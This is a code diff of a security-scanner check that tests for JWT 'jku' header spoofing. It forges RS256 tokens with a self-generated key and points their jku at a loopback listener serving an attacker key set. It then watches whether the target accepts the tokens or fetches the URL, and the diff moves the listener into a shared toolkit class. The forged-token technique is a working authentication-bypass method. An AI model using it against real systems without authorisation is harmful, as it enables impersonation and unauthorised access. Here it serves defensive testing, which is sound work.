@@ -1,43 +1,17 @@
 import { randomUUID } from 'node:crypto';
-import { createServer, type IncomingHttpHeaders } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { setTimeout } from 'node:timers/promises';
 import { exportJWK, generateKeyPair } from 'jose';
 import type { Evidence } from '../../security-check.ts';
 import { defineCheck } from '../../security-check.ts';
+import { OobListener } from '../../toolkit/index.ts';
 import { AUTH_CVSS } from './auth-cvss.ts';
-import { forgeJwt, readJwt } from './forge-jwt.ts';
 import { authNeeds } from './auth-needs.ts';
+import { forgeJwt, readJwt } from './forge-jwt.ts';
 import { TokenOracle } from './token-oracle.ts';
 
 const OWN_KID = 'crucible-jku';
 /** A fetch can trail the refusal (a verifier that fetches in the background); wait this long for it. */
 const LATE_FETCH_MS = 750;
-
-interface Fetch {
-  readonly method: string;
-  readonly url: string;
-  readonly headers: IncomingHttpHeaders;
-}
-
-/** An out-of-band listener on loopback serving `body` at every path and remembering who asked. */
-async function listen(body: string): Promise<{ readonly origin: string; readonly fetches: Fetch[]; close(): Promise<void> }> {
-  const fetches: Fetch[] = [];
-  const server = createServer((req, res) => {
-    fetches.push({ method: req.method ?? 'GET', url: req.url ?? '/', headers: req.headers });
-    res.writeHead(200, { 'content-type': 'application/json' }).end(body);
-  });
-  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(0, '127.0.0.1', resolve));
-  const { port } = server.address() as AddressInfo;
-  return {
-    origin: `http://127.0.0.1:${port}`,
-    fetches,
-    close: () =>
-      new Promise<void>((resolve) => {
-        server.closeAllConnections();
-        server.close(() => resolve());
-      }),
-  };
-}
 
 export const jwtJkuSpoof = defineCheck({
   id: 'SEC-JWT-06',
@@ -59,31 +33,29 @@ export const jwtJkuSpoof = defineCheck({
     const real = readJwt(token);
     const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
     const jwk = { ...(await exportJWK(publicKey)), kid: OWN_KID, alg: 'RS256', use: 'sig' };
-    const oob = await listen(JSON.stringify({ keys: [jwk, { ...jwk, kid: real.header['kid'] }] }));
-    try {
-      const jku = `${oob.origin}/crucible-jku/${randomUUID()}/jwks.json`;
-      const sign = (kid: unknown): Promise<string> => forgeJwt({ alg: 'RS256', typ: 'JWT', kid, jku }, real.claims, { kind: 'key', key: privateKey });
-      const outcome = await new TokenOracle(ctx, probe).judgeTokens(token, [
-        { label: `RS256 signed by the key at its jku ${jku} (kid ${OWN_KID})`, token: await sign(OWN_KID) },
-        { label: `RS256 signed by the key at its jku ${jku} (the real kid ${String(real.header['kid'])})`, token: await sign(real.header['kid']) },
-      ]);
-      await new Promise((r) => setTimeout(r, LATE_FETCH_MS));
-      if (oob.fetches.length === 0) return outcome;
-      const seen: Evidence[] = oob.fetches.map((f) => ({
-        method: f.method,
-        url: `${oob.origin}${f.url}`,
-        requestHeaders: Object.fromEntries(Object.entries(f.headers).map(([k, v]) => [k, String(v)])),
-        status: 200,
-        note: "seen by the check's listener: the target fetched the attacker's key set",
-      }));
-      if (outcome.verdict === 'fail') return { ...outcome, evidence: [...outcome.evidence, ...seen] };
-      return {
-        verdict: 'fail',
-        summary: `the target fetched the token's jku URL (${oob.fetches.length} request(s) to the check's listener), though it refused the token`,
-        evidence: [...seen, ...outcome.evidence],
-      };
-    } finally {
-      await oob.close();
-    }
+    const keySet = JSON.stringify({ keys: [jwk, { ...jwk, kid: real.header['kid'] }] });
+    await using oob = await OobListener.start({ answer: { contentType: 'application/json', body: keySet } });
+    const jku = `${oob.origin}/crucible-jku/${randomUUID()}/jwks.json`;
+    const sign = (kid: unknown): Promise<string> => forgeJwt({ alg: 'RS256', typ: 'JWT', kid, jku }, real.claims, { kind: 'key', key: privateKey });
+    const outcome = await new TokenOracle(ctx, probe).judgeTokens(token, [
+      { label: `RS256 signed by the key at its jku ${jku} (kid ${OWN_KID})`, token: await sign(OWN_KID) },
+      { label: `RS256 signed by the key at its jku ${jku} (the real kid ${String(real.header['kid'])})`, token: await sign(real.header['kid']) },
+    ]);
+    await setTimeout(LATE_FETCH_MS);
+    const fetches = oob.arrivals.flatMap((a) => (a.request ? [a.request] : []));
+    if (fetches.length === 0) return outcome;
+    const seen: Evidence[] = fetches.map((f) => ({
+      method: f.method,
+      url: `${oob.origin}${f.url}`,
+      requestHeaders: Object.fromEntries(Object.entries(f.headers).map(([k, v]) => [k, String(v)])),
+      status: 200,
+      note: "seen by the check's listener: the target fetched the attacker's key set",
+    }));
+    if (outcome.verdict === 'fail') return { ...outcome, evidence: [...outcome.evidence, ...seen] };
+    return {
+      verdict: 'fail',
+      summary: `the target fetched the token's jku URL (${fetches.length} request(s) to the check's listener), though it refused the token`,
+      evidence: [...seen, ...outcome.evidence],
+    };
   },
 });
